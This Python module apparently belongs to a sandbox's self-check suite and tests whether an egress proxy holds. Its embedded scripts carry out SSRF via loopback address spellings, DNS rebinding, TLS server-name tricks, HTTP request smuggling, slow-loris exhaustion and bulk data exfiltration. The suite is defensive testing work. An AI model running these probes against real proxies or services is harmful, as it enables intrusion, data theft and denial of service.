"""Attacks through the only way out: the door of a sandbox and the broker that stands at it.

A host that is listed is reached first, so that a refusal isn't just a closed door.
"""

from docmill.sandboxes.base import PROXY_PORT
from docmill.sandboxes.selfcheck.bait import Bait
from docmill.sandboxes.selfcheck.base import Attack, Outcome, Room, Stage
from docmill.sandboxes.selfcheck.gate import CarelessProxy, GateRules, Names
from docmill.sandboxes.selfcheck.rooms import network
from docmill.sandboxes.selfcheck.scripting import run_inside, run_outside, staged
from docmill.sandboxes.selfcheck.services import LISTED

NO_BROKER = Outcome(None, "nobody has brought a broker")
_LOOPBACK = ("127.0.0.0/8",)
_ASK = f"""
import socket, time
WEB, INNER = BAIT["web"][1], BAIT["inner"][1]
LISTED = f"{LISTED}:{{WEB}}"

def connect(seconds=4):
    stream = socket.create_connection(PROXY, seconds)
    stream.settimeout(seconds)
    return stream

def answer(stream, enough=1 << 16):
    data = b""
    try:
        while len(data) < enough and not holds(data) and not data.endswith(b"harmless"):
            piece = stream.recv(4096)
            if not piece:
                break
            data += piece
    except OSError as error:
        data += name_of(error.errno).encode()
    if holds(data):
        reached("the secret came through")
    return data

def ask(request, *more):
    with connect() as stream:
        stream.sendall(request.replace("\\n", "\\r\\n").encode())
        data = answer(stream) if not more else stream.recv(4096)
        for each in more:
            if b" 200" in data:
                stream.sendall(each)
                data = answer(stream)
    return data.splitlines()[0][:40].decode("latin-1") if data else "closed"

def get(url, host, extra=""):
    return ask(f"GET http://{{url}} HTTP/1.1\\nHost: {{host}}\\n{{extra}}\\n")
"""
_SANE = """
first = get(SANE + "/", SANE)
if not first.startswith("HTTP/1.1 200"):
    unclear("the door leads nowhere: " + first)
"""
_UNLISTED = """
stopped("; ".join([get(f"other.example:{WEB}/", f"other.example:{WEB}"),
    ask(f"CONNECT other.example:{WEB} HTTP/1.1\\nHost: other.example:{WEB}\\n\\n", b"other")]))
"""
_PORT = """
stopped(get(f"LISTED_HOST:{INNER}/", f"LISTED_HOST:{INNER}"))
""".replace("LISTED_HOST", LISTED)
_PRIVATE = """
stopped(get(f"LISTED_HOST:{INNER}/", f"LISTED_HOST:{INNER}"))
""".replace("LISTED_HOST", LISTED)
_LITERALS = """
seen = [get(f"{host}:{INNER}/", f"{host}:{INNER}")[:12] for host in ("127.0.0.1", "2130706433",
    "0x7f000001", "127.1", "[::1]", "[::ffff:127.0.0.1]", "0.0.0.0", "localhost", "localhost.")]
stopped(told(seen))
"""
_REBINDING = """
seen = [get(f"rebound.example:{INNER}/", f"rebound.example:{INNER}")[:12] for _ in range(4)]
stopped(told(seen))
"""
_HELLO = """
import ssl
def hello(name):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        context.wrap_bio(incoming, outgoing, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()

tunnel = f"CONNECT {LISTED} HTTP/1.1\\nHost: {LISTED}\\n\\n"
if not ask(tunnel, hello(LISTED.partition(":")[0])).startswith("HTTP/1.1 200"):
    unclear("a tunnel to a listed host leads nowhere")
seen = []
for name in ("other.example", None, "127.0.0.1"):
    seen.append(ask(tunnel, hello(name)))
seen.append(ask(tunnel, b"SSH-2.0-other\\r\\n"))
stopped("; ".join(seen))
"""
_SMUGGLING = """
other = f"other.example:{WEB}"
seen = [get(LISTED + "/", other), get(LISTED + "/", LISTED, f"Host: {other}\\n")]
body = f"GET / HTTP/1.1\\r\\nHost: {other}\\r\\n\\r\\n"
head = f"POST http://{LISTED}/ HTTP/1.1\\nHost: {LISTED}\\n"
for lengths in ("Content-Length: 0\\nTransfer-Encoding: chunked\\n", "Content-Length: 0\\n",
        f"Content-Length: 0\\nContent-Length: {len(body)}\\n", "Transfer-Encoding : chunked\\n"):
    with connect(2) as stream:
        request = (head + lengths + "\\n").replace("\\n", "\\r\\n") + "0\\r\\n\\r\\n" * 0 + body
        stream.sendall(request.encode())
        data = b""
        try:
            while piece := stream.recv(4096):
                data += piece
                if holds(data):
                    reached("a second request was answered")
        except OSError:
            pass
        seen.append(data[:12].decode("latin-1") or "closed")
stopped(told(seen))
"""
_SLOW = """
slow = [connect() for _ in range(60)]
for stream in slow:
    stream.sendall(b"GET http")
began = time.monotonic()
while time.monotonic() - began < 2.5:
    for stream in slow[:10]:
        try:
            stream.send(b"x")
        except OSError:
            pass
    time.sleep(0.1)
first = get(LISTED + "/", LISTED)
took = time.monotonic() - began
open_ones = 0
for stream in slow[:10]:
    stream.settimeout(0.01)
    try:
        while stream.recv(4096):
            pass
    except TimeoutError:
        open_ones += 1
    except OSError:
        pass
if open_ones or " 200" not in first:
    reached(f"{open_ones} of 10 slow requests are still waited for after {took:.1f} s; {first}")
stopped(f"all slow requests were given up; another one was answered after {took:.1f} s")
"""
_CARRY_AWAY = """
size = 32 << 20
with connect() as stream:
    head = f"POST http://{LISTED}/ HTTP/1.1\\r\\nHost: {LISTED}\\r\\n"
    head += f"Content-Length: {size}\\r\\n\\r\\n"
    sent = 0
    try:
        stream.sendall(head.encode())
        while sent < size:
            sent += stream.send(bytes(1 << 16))
    except OSError as error:
        stopped(f"given 1 MiB, cut when {sent} bytes had gone into buffers: {name_of(error.errno)}")
reached(f"{sent} bytes were carried away")
"""
_NEIGHBOUR = """
import socket
with socket.create_connection(PROXY, 2) as stream:
    reached("another session's door was opened")
"""


def _through(
    name: str,
    *,
    tries: str,
    script: str,
    held_by: str,
    gives: str,
    private: tuple[str, ...] = _LOOPBACK,
    listed: tuple[str, ...] = (f"{LISTED}:{{web}}",),
) -> Attack:
    """An attack by a script that speaks to the broker."""

    async def inside(stage: Stage) -> Outcome:
        if stage.gatekeeper is None:
            return NO_BROKER
        ports = {name: stage.bait.services[name][1] for name in ("web", "inner")}
        hosts = tuple(host.format(**ports) for host in listed)
        head = f"PROXY = ('127.0.0.1', {PROXY_PORT})\n{_ASK}\nSANE = {hosts[0]!r}\n"
        async with (
            stage.open(door=True) as sandbox,
            stage.gatekeeper.serve(sandbox.door(), GateRules(hosts, private), Names()),
        ):
            return await run_inside(sandbox, stage.bait, head + (_SANE if private else "") + script)

    async def outside(bait: Bait) -> Outcome:
        async with CarelessProxy(Names()).open() as port:
            return await run_outside(bait, f"PROXY = ('127.0.0.1', {port})\n{_ASK}{script}")

    return staged(name, tries=tries, inside=inside, outside=outside, held_by=held_by, gives=gives)


async def _beside_the_door(stage: Stage) -> Outcome:
    """A sandbox with a door has no other way out."""
    if stage.gatekeeper is None:
        return NO_BROKER
    seen: list[str] = []
    async with (
        stage.open(door=True) as sandbox,
        stage.gatekeeper.serve(sandbox.door(), GateRules((LISTED,)), Names()),
    ):
        for script in (network.ROUTE, network.NAMES, network.LOOPBACK):
            found = await run_inside(sandbox, stage.bait, script)
            if found.reached is not False:
                return found
            seen.append(found.evidence)
    return Outcome(False, "; ".join(seen))


async def _other_door(stage: Stage) -> Outcome:
    """The door of another session, tried from a sandbox without one."""
    if stage.gatekeeper is None:
        return NO_BROKER
    script = f"PROXY = ('127.0.0.1', {PROXY_PORT})\n{_NEIGHBOUR}"
    async with (
        stage.open(door=True) as neighbour,
        stage.gatekeeper.serve(neighbour.door(), GateRules((LISTED,)), Names()),
        stage.open() as sandbox,
    ):
        return await run_inside(sandbox, stage.bait, script)


async def _any_door(bait: Bait) -> Outcome:
    async with CarelessProxy(Names()).open() as port:
        return await run_outside(bait, f"PROXY = ('127.0.0.1', {port})\n{_NEIGHBOUR}")


ROOM = Room(
    "egress",
    (
        _through(
            "unlisted-host",
            tries="Ask the broker for a host that isn't listed, by GET and by CONNECT.",
            script=_UNLISTED,
            held_by="the broker's list",
            gives="Every host the machine reaches.",
        ),
        _through(
            "unlisted-port",
            tries="Ask the broker for another port of a listed host.",
            script=_PORT,
            held_by="the broker's list, which names ports",
            gives="Mail, databases and shells of a host that is listed for its web page.",
        ),
        _through(
            "private-address",
            tries="Ask for a listed host whose name leads to an address of the local network.",
            script=_PRIVATE,
            listed=(f"{LISTED}:{{inner}}",),
            private=(),
            held_by="the broker resolves names itself and connects to public addresses only",
            gives="Services of the host and its neighbours, metadata of clouds.",
        ),
        _through(
            "address-literals",
            tries="Ask for addresses in every spelling: 127.1, 0x7f000001, [::ffff:127.0.0.1].",
            script=_LITERALS,
            held_by="the broker takes names that are listed, and addresses in one spelling",
            gives="Services of the host past a list of names.",
        ),
        _through(
            "rebinding",
            tries="Have a listed name lead to another address at the second question.",
            script=_REBINDING,
            listed=(f"neighbour.{LISTED}:{{web}}", "rebound.example:{inner}"),
            private=("127.0.0.2/32",),
            held_by="a name is resolved once for a connection; what was checked is connected to",
            gives="Services of the host past the check of addresses.",
        ),
        _through(
            "other-name-in-tls",
            tries="Ask for a listed host, and for another by TLS's server name, or by no TLS.",
            script=_HELLO,
            held_by="the broker reads the first message of TLS and compares the name",
            gives="Other sites of a provider that serves thousands from the same address.",
        ),
        _through(
            "request-smuggling",
            tries="Hide a second request, or another host, in a request to a listed host.",
            script=_SMUGGLING,
            held_by="the broker parses strictly, writes the request anew, one on a connection",
            gives="Other sites of a provider; another's credential.",
        ),
        _through(
            "slow-loris",
            tries="Hold 60 connections open with requests that come drop by drop.",
            script=_SLOW,
            held_by="a request's head has its time; connections of a session are counted",
            gives="A broker that serves nobody.",
        ),
        _through(
            "carry-away",
            tries="Send more to a listed host than a session may.",
            script=_CARRY_AWAY,
            held_by="the broker counts a session's bytes",
            gives="More than one document's worth of data, carried away.",
        ),
        staged(
            "beside-the-door",
            tries="Leave a sandbox that has a door by any other way.",
            inside=_beside_the_door,
            outside=lambda bait: run_outside(bait, network.LOOPBACK),
            held_by="the sandbox's own network namespace, with a loopback device only",
            gives="A way out that nobody checks.",
        ),
        staged(
            "neighbours-door",
            tries="Use the door of another session.",
            inside=_other_door,
            outside=_any_door,
            held_by="each door is on a loopback device of its sandbox's own",
            gives="The hosts and credentials of another session.",
        ),
    ),
)
